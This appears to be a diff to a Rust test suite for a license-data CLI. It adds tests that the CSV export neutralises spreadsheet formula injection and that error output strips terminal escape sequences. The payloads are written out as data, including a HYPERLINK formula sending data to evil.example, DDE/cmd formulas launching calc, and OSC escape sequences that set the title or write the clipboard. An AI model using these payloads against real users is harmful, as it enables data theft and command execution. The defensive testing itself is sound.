@@ -349,9 +349,32 @@ fn without_data_the_newest_cached_snapshot_is_read() {
     );
 }
 
+/// Scripts never get invented numbers: with no `--data` and nothing cached (or a mistyped
+/// cache folder), `show` and `list` fail saying how to get data; the demo needs `--demo`.
 #[test]
-fn with_nothing_cached_the_demo_opens() {
-    let o = uptake(&["list", "--json"]);
+fn scripts_without_data_fail_saying_how_to_get_some() {
+    let cache = tempfile::tempdir().unwrap();
+    let mistyped = cache.path().join("no-such-folder");
+    for dir in [cache.path(), mistyped.as_path()] {
+        for args in [
+            vec!["list", "--csv"],
+            vec!["list", "--json"],
+            vec!["show", "contoso"],
+        ] {
+            let o = uptake_in(dir, &args);
+            assert_eq!(o.status.code(), Some(1), "{args:?}");
+            assert!(o.stdout.is_empty(), "{args:?}: {}", stdout(&o));
+            let err = stderr(&o);
+            assert!(err.contains("no data"), "{err}");
+            assert!(err.contains("uptake import PATH"), "{err}");
+            assert!(err.contains("--demo"), "{err}");
+        }
+    }
+}
+
+#[test]
+fn with_demo_the_demo_opens() {
+    let o = uptake(&["list", "--json", "--demo"]);
     assert_eq!(o.status.code(), Some(0));
     let v = json(&o);
     let items = v.as_array().unwrap();
@@ -466,4 +489,128 @@ fn a_bad_config_is_a_one_line_error_naming_the_key() {
         stderr(&o)
     );
     assert_eq!(stderr(&o).lines().count(), 1);
+}
+
+/// Formula payloads in customer names and ids, as a spreadsheet would run them, including
+/// the ones only the sanitiser's trimming used to make live (tab, CR, space, NBSP in front).
+const FORMULAS: [&str; 16] = [
+    "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Click\")",
+    "=cmd|' /C calc'!A0",
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "=1+1",
+    "\t=1+1",
+    "\r=1+1",
+    " =1+1",
+    "\u{a0}=1+1",
+    "\u{a0}\t @SUM(1)",
+    "\n+1",
+    "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
+    "-1",
+    "@",
+    "＝1+1",
+];
+
+fn hostile_csv_export(dir: &Path) -> PathBuf {
+    let items: Vec<Value> = FORMULAS
+        .iter()
+        .enumerate()
+        .map(|(i, payload)| {
+            serde_json::json!({
+                "customerName": payload,
+                "customerId": if i % 2 == 0 { format!("{payload}#{i}") } else { format!("id-{i}") },
+                "productName": "MICROSOFT 365 E3",
+                "licensesDeployed": 3,
+                "licensesSold": 5,
+                "processedDateTime": "2025-06-14T03:25:16Z",
+                "serviceName": "o365",
+                "channel": "reseller",
+                "attributes": { "objectType": "CustomerLicensesDeploymentInsights" }
+            })
+        })
+        .collect();
+    let path = dir.join("deployment.json");
+    let body = serde_json::json!([{ "totalCount": items.len(), "items": items }]);
+    std::fs::write(&path, body.to_string()).unwrap();
+    path
+}
+
+#[test]
+fn list_csv_never_starts_a_cell_with_a_formula() {
+    let dir = tempfile::tempdir().unwrap();
+    let data = hostile_csv_export(dir.path());
+    let o = uptake(&["list", "--csv", "--data", data.to_str().unwrap()]);
+    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
+    let mut reader = csv::Reader::from_reader(o.stdout.as_slice());
+    let mut names = 0;
+    for record in reader.records() {
+        let record = record.unwrap();
+        for (column, cell) in [
+            (0, &record[0]),
+            (1, &record[1]),
+            (9, &record[9]),
+            (10, &record[10]),
+        ] {
+            let live = cell.starts_with(['\t', '\r'])
+                || cell.trim_start().starts_with(['=', '+', '-', '@', '＝']);
+            assert!(!live, "column {column}: live formula {cell:?}");
+        }
+        assert!(record[1].starts_with('\''), "neutralised: {:?}", &record[1]);
+        names += 1;
+    }
+    assert_eq!(names, FORMULAS.len());
+}
+
+/// clap quotes a bad value back: through the sanitiser, so it cannot set the title or turn
+/// mouse reporting on.
+#[test]
+fn argument_errors_never_echo_escape_sequences() {
+    let payload = "xx\u{1b}]0;PWN\u{7}\u{1b}[?1000h\u{9b}31m";
+    for args in [
+        vec!["--lang", payload],
+        vec!["list", "--sort", payload],
+        vec!["list", "--filter", payload],
+        vec!["show", "x", "--format", payload],
+        vec!["list", payload],
+        vec!["--theme", payload],
+    ] {
+        let o = uptake(&args);
+        assert_eq!(o.status.code(), Some(2), "{args:?}");
+        let err = stderr(&o);
+        assert!(
+            !err.chars().any(|c| c.is_control() && c != '\n'),
+            "{args:?}: {err:?}"
+        );
+        assert!(err.contains("xx"), "{args:?}: still names the value: {err}");
+    }
+}
+
+/// A bad value is quoted as people read it: sanitised, not with Rust's `\u{1b}` escapes.
+#[test]
+fn warnings_quote_the_sanitised_value() {
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("deployment.json");
+    let body = serde_json::json!([{ "totalCount": 2, "items": [
+        {
+            "customerName": "Contoso", "customerId": "c1", "productName": "MICROSOFT 365 E3",
+            "licensesDeployed": 3, "licensesSold": 5,
+            "processedDateTime": "2025-13-99\u{1b}]52;c;ZXZpbA==\u{7}",
+            "serviceName": "o365", "channel": "reseller",
+            "attributes": { "objectType": "CustomerLicensesDeploymentInsights" }
+        },
+        {
+            "customerName": "Fabrikam", "customerId": "c2", "productName": "MICROSOFT 365 E3",
+            "licensesDeployed": 3, "licensesSold": 5,
+            "processedDateTime": "2025-06-14T03:25:16Z",
+            "serviceName": "o365", "channel": "reseller",
+            "attributes": { "objectType": "CustomerLicensesDeploymentInsights" }
+        }
+    ]}]);
+    std::fs::write(&path, body.to_string()).unwrap();
+    let o = uptake(&["import", path.to_str().unwrap()]);
+    let err = format!("{}{}", stdout(&o), stderr(&o));
+    assert!(err.contains("cannot read date \"2025-13-99\""), "{err}");
+    assert!(!err.contains("\\u{"), "no debug escapes: {err}");
+    assert!(!err.chars().any(|c| c.is_control() && c != '\n'), "{err:?}");
 }
